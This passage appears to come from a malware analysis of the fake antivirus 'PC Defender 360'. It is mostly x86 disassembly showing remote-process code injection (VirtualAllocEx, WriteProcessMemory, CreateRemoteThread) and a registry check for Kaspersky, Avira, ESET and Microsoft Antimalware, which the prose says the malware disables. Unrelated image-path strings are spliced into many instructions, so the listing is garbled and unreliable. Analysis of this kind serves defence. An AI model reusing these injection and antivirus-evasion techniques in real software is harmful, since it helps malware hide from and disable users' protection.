009D1448    BA FCF19D00         mov edx,0x9DF1FC                         ; InternetCloseHandle
009D144D    8BF0                mov esi,eax
009D144F    B1 49               mov cl,0x49
009D1451    2BD6                sub edx,esi
009D1453    8808                mov byte ptr ds:[eax],cl
009D1455    40                  inc eax
009D1456    8A0C02              mov cl,byte ptr ds:[edx+eax]009D1459    3ACB                cmp cl,bl
009D145B  ^ 75 F6               jnz short 009D1453
009D145D    8818                mov byte ptr ds:[eax],bl
009D145F    8D85 24FBFFFF       lea eax,dword ptr ss:[ebp-0x4DC]
009D1465    BA 10F29D00         mov edx,0x9DF210                         ; HttpQueryInfoW
009D146A    8BF0                mov esi,eax
009D146C    B1 48               mov cl,0x48
009D146E    2BD6                sub edx,esi009D1470    8808                mov byte ptr ds:[eax],cl
009D1472    40                  inc eax
009D1473    8A0C02              mov cl,byte ptr ds:[edx+eax]
009D1476    3ACB                cmp cl,bl
009D1478  ^ 75 F6               jnz short 009D1470
009D147A    B9 20F29D00         mov ecx,0x9DF220                         ; wininet.dll
009D147F    8D95 3CFBFFFF       lea edx,dword ptr ss:[ebp-0x4C4]
009D1485    8818                mov byte ptr ds:[eax],bl
009D1487    E8 F4C10000         call 009DD680
009D148C    B9 38F29D00         mov ecx,0x9DF238                         ; Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 7.1; Trident/5.0)
009D1491    8D95 5CFBFFFF       leaedx,dword ptr ss:[ebp-0x4A4]
009D1497    E8 E4C10000         call 009DD680
009D149C    8B4D 0C             mov ecx,dword ptr ss:[ebp+0xC]
009D149F    BF FF010000         mov edi,0x1FF
009D14A4    8D95 DCFBFFFF       lea edx,dword ptr ss:[ebp-0x424]
009D14AA    E8 01C20000         call 009DD6B0
009D14AF    395D 10             cmp dword ptr ss:[ebp+0x10],ebx
009D14B2    74 0C               je short 009D14C0
009D14B4    C745 DC 01000000    mov dword ptr ss:[ebp-0x24],0x1
009D14BB    395D 14             cmp dword ptr ss:[ebp+0x14],ebx
009D14BE    75 03               jnz short 009D14C3
009D14C0    895D DC             mov dword ptr ss:[ebp-0x24],ebx
009D14C3    8B3D 38F09D00       mov edi,dword ptr ds:[0x9DF038]          ; kernel32.VirtualAllocEx
009D14C9    6A 04               push 0x4
009D14CB    BE 00100000         mov esi,0x1000
009D14D0    56                  push esi
009D14D1    68 38050000         push 0x538
009D14D6    53                  push ebx
009D14D7    FF75 08             push dword ptr ss:[ebp+0x8]
009D14DA    FFD7                call edi
009D14DC    8945 F4             mov dword ptrss:[ebp-0xC],eax
009D14DF    3BC3                cmp eax,ebx
009D14E1    0F84E9000000       je 009D15D0
009D14E7    6A 20               push 0x20
009D14E9    56                  push esi
009D14EA    C745 FC EC119D00    mov dword ptr ss:[ebp-0x4],0x9D11EC
009D14F1    816D FC 00109D00    sub dword ptr ss:[ebp-0x4],0x9D1000
009D14F8    FF75 FC             push dword ptr ss:[ebp-0x4]
009D14FB    53                  push ebx
009D14FC    FF75 08             push dword ptr ss:[ebp+0x8]
009D14FF    FFD7                call edi
009D1501    8945 EC             mov dword ptr ss:[ebp-0x14],eax
009D1504    3BC3                cmp eax,ebx
009D1506    0F84 C4000000       je 009D15D0
009D150C    8B3D 3CF09D00       mov edi,dword ptr ds:[0x9DF03C]          ; kernel32.WriteProcessMemory
009D1512    53                  push ebx
009D1513    FF75 FC             push dword ptr ss:[ebp-0x4]
009D1516    68 00109D00         push 0x9D1000
009D151B    50                  push eax
009D151C    FF75 08             push dword ptr ss:[ebp+0x8]
009D151F    FFD7                call edi
009D1521    85C0                test eax,eax
009D1523    0F84 A7000000       je 009D15D0
009D1529    53                  push ebx
009D152A    BE 38050000         mov esi,0x538
009D152F    56                  push esi
009D1530    8D85 B0FAFFFF       lea eax,dword ptr ss:[ebp-0x550]
009D1536    50                  push eax
009D1537    FF75 F4             push dword ptr ss:[ebp-0xC]
009D153A    FF75 08             push dword ptr ss:[ebp+0x8]
009D153D    FFD7                call edi
009D153F    85C0                test eax,eax
009D1541    0F84 89000000       je 009D15D0
009D1547    53                  push ebx
009D1548    53                  push ebx
009D1549    FF75 F4             push dword ptr ss:[ebp-0xC]
009D154C    FF75 EC             push dword ptr ss:[ebp-0x14]
009D154F    53                  push ebx009D1550    53                  push ebx
009D1551    FF75 08             push dword ptr ss:[ebp+0x8]
009D1554    FF15 1CF09D00       call dword ptr ds:[0x9DF01C]             ; kernel32.CreateRemoteThread
009D155A    8BF8                mov edi,eax
009D155C    3BFB                cmp edi,ebx
009D155E    74 70               je short 009D15D0
009D1560    6A FF               push -0x1
009D1562    57                  push edi
009D1563    FF15 40F09D00       call dword ptr ds:[0x9DF040]             ; kernel32.WaitForSingleObject
009D1569    8D45 F0             lea eax,dword ptr ss:[ebp-0x10]
009D156C    50                  push eax
009D156D    57                  push edi
009D156E    FF15 44F09D00       call dword ptr ds:[0x9DF044]             ;kernel32.GetExitCodeThread
009D1574    57                  push edi
009D1575    FF15 C0F09D00       call dword ptr ds:[0x9DF0C0]             ; kernel32.CloseHandle
009D157B    8B45 F0             mov eax,dword ptr ss:[ebp-0x10]
009D157E    83F8 FF             cmp eax,-0x1
009D1581    74 4D               je short 009D15D0
009D1583    C745 F8 01000000    mov dword ptr ss:[ebp-0x8],0x1
009D158A    395D DC             cmp dword ptrss:[ebp-0x24],ebx
009D158D    74 41               je short 009D15D0
009D158F    8B4D 14             mov ecx,dword ptr ss:[ebp+0x14]
009D1592    8901                mov dword ptr ds:[ecx],eax
009D1594    40                  inc eax
009D1595    E8 36C00000         call 009DD5D0
009D159A    8B4D 10             mov ecx,dword ptr ss:[ebp+0x10]
009D159D    8901                mov dword ptr ds:[ecx],eax
009D159F    3BC3                cmp eax,ebx009D15A1    74 2A               je short 009D15CD
009D15A3    8B3D 48F09D00       mov edi,dword ptr ds:[0x9DF048]          ; kernel32.ReadProcessMemory
009D15A9    53                  push ebx
009D15AA    56                  push esi
009D15AB    8D85 B0FAFFFF       lea eax,dword ptr ss:[ebp-0x550]
009D15B1    50                  push eax
009D15B2    FF75 F4             push dword ptr ss:[ebp-0xC]
009D15B5    FF75 08             push dword ptr ss:[ebp+0x8]
009D15B8    FFD7                call edi
009D15BA    8B45 10             mov eax,dword ptr ss:[ebp+0x10]
009D15BD    53                  push ebx
009D15BE    FF75 F0             push dword ptr ss:[ebp-0x10]
009D15C1    FF30                push dword ptr ds:[eax]
009D15C3    FF75 E0             push dword ptr ss:[ebp-0x20]
009D15C6    FF75 08             push dword ptr ss:[ebp+0x8]
009D15C9    FFD7                call edi
009D15CB    EB 03               jmp short 009D15D0
009D15CD    895D F8             mov dword ptr ss:[ebp-0x8],ebx
009D15D0    8B45 F8             mov eax,dword ptr ss:[ebp-0x8]
009D15D3    5F                  pop edi
009D15D4    5E                  pop esi
009D15D5    5B                  pop ebx
009D15D6    C9                  leave
009D15D7    C3                  retn


After that, in order to protect itself from being removed, PC Defender 360 starts to check if antivirus program like Kaspersky、Avira、NOD32、MSE installed on the compromised computer, if find any, PC Defender 360 will disable the antivirus program, if you wish to use it, PC Defender 360 will terminate it and then display a bogus alert that states the program isinfected. See following behavior:


009D15D8    55                  push ebp
009D15D9    8BEC                mov ebp,esp
009D15DB    83EC 0C             sub esp,0xC
009D15DE    834D FC FF          or dword ptr ss:[ebp-0x4],-0x1
009D15E2    53                  push ebx
009D15E3    56                  push esi
009D15E4    8B35 00F09D00       mov esi,dword ptr ds:[0x9DF000]          ; advapi32.RegOpenKeyExW
009D15EA    57                  push edi009D15EB    8D45 F4             lea eax,dword ptr ss:[ebp-0xC]
009D15EE    50                  push eax
009D15EF    BF 19000200         mov edi,0x20019
009D15F4    57                  push edi
009D15F5    33DB                xor ebx,ebx
009D15F7    53                  push ebx
009D15F8    68 B8F29D00         push 0x9DF2B8                            ; SOFTWARE
009D15FD    68 02000080         push 0x80000002
009D1602    FFD6                call esi
009D1604    85C0                test eax,eax
009D1606    0F85 88000000       jnz 009D1694
009D160C    8D45 F8             lea eax,dword ptr ss:[ebp-0x8]
009D160F    50                  push eax
009D1610    57                  push edi
009D1611    53                  push ebx
009D1612    68 CCF29D00         push 0x9DF2CC                            ; KasperskyLab
009D1617    FF75 F4             push dword ptr ss:[ebp-0xC]
009D161A    895D FC             mov dword ptr ss:[ebp-0x4],ebx
009D161D    FFD6                call esi
009D161F    8B1D 04F09D00       mov ebx,dword ptr ds:[0x9DF004]          ; advapi32.RegCloseKey
009D1625    85C0                test eax,eax
009D1627    75 0C               jnz short 009D1635
009D1629    FF75 F8             push dword ptr ss:[ebp-0x8]
009D162C    C745 FC 01000000    mov dwordptr ss:[ebp-0x4],0x1
009D1633    FFD3                call ebx
009D1635    8D45 F8             lea eax,dword ptr ss:[ebp-0x8]
009D1638    50                  push eax
009D1639    57                  push edi
009D163A    6A 00               push 0x0
009D163C    68 E8F29D00         push 0x9DF2E8                            ; Avira009D1641    FF75 F4             push dword ptr ss:[ebp-0xC]
009D1644    FFD6                call esi
009D1646    85C0                test eax,eax
009D1648    75 09               jnz short 009D1653
009D164A    FF75 F8             push dword ptr ss:[ebp-0x8]
009D164D    834D FC 02          or dword ptr ss:[ebp-0x4],0x2
009D1651    FFD3                call ebx
009D1653    8D45 F8             lea eax,dword ptr ss:[ebp-0x8]
009D1656    50                  push eax
009D1657    57                  push edi
009D1658    6A 00               push 0x0
009D165A    68 F4F29D00         push 0x9DF2F4                            ; ESET
009D165F    FF75 F4             push dword ptr ss:[ebp-0xC]
009D1662    FFD6                call esi
009D1664    85C0                test eax,eax
009D1666    75 09               jnz short 009D1671009D1668    FF75 F8             push dword ptr ss:[ebp-0x8]
009D166B    834D FC 04          or dword ptr ss:[ebp-0x4],0x4
009D166F    FFD3                call ebx
009D1671    8D45 F8             lea eax,dword ptr ss:[ebp-0x8]
009D1674    50                  push eax
009D1675    57                  push edi
009D1676    6A 00               push 0x0
009D1678    68 00F39D00         push 0x9DF300                            ; Microsoft\Microsoft Antimalware009D167D    FF75 F4             push dword ptr ss:[ebp-0xC]
009D1680    FFD6                call esi
009D1682    85C0                test eax,eax
009D1684    75 09               jnz short 009D168F
009D1686    FF75 F8             push dword ptr ss:[ebp-0x8]
009D1689    834D FC 08          or dword ptr ss:[ebp-0x4],0x8
009D168D    FFD3                call ebx
009D168F    FF75 F4             push dword ptr ss:[ebp-0xC]
009D1692    FFD3                call ebx
009D1694    8B45 FC             mov eax,dword ptr ss:[ebp-0x4]
009D1697    5F                  pop edi
009D1698    5E                  pop esi
009D1699    5B                  pop ebx
009D169A    C9                  leave
009D169B    C3                  retn
009D169C    55                  push ebp
009D169D    8BEC                mov ebp,esp
009D169F    81EC 08010000       sub esp,0x108
009D16A5    53                  push ebx
009D16A6    57                  push edi
009D16A7    8D7C08 FE           lea edi,dword ptr ds:[eax+ecx-0x2]
009D16AB    0FB707              movzx eax,word ptr ds:[edi]
009D16AE    69C0 60EA0000       imul eax,eax,0xEA60
009D16B4    8946 30             mov dword ptr ds:[esi+0x30],eax
009D16B7    4F                  dec edi
009D16B8    4F                  dec edi
009D16B9    0FB71F              movzx ebx,word ptr ds:[edi]
009D16BC    8BC3                mov eax,ebx
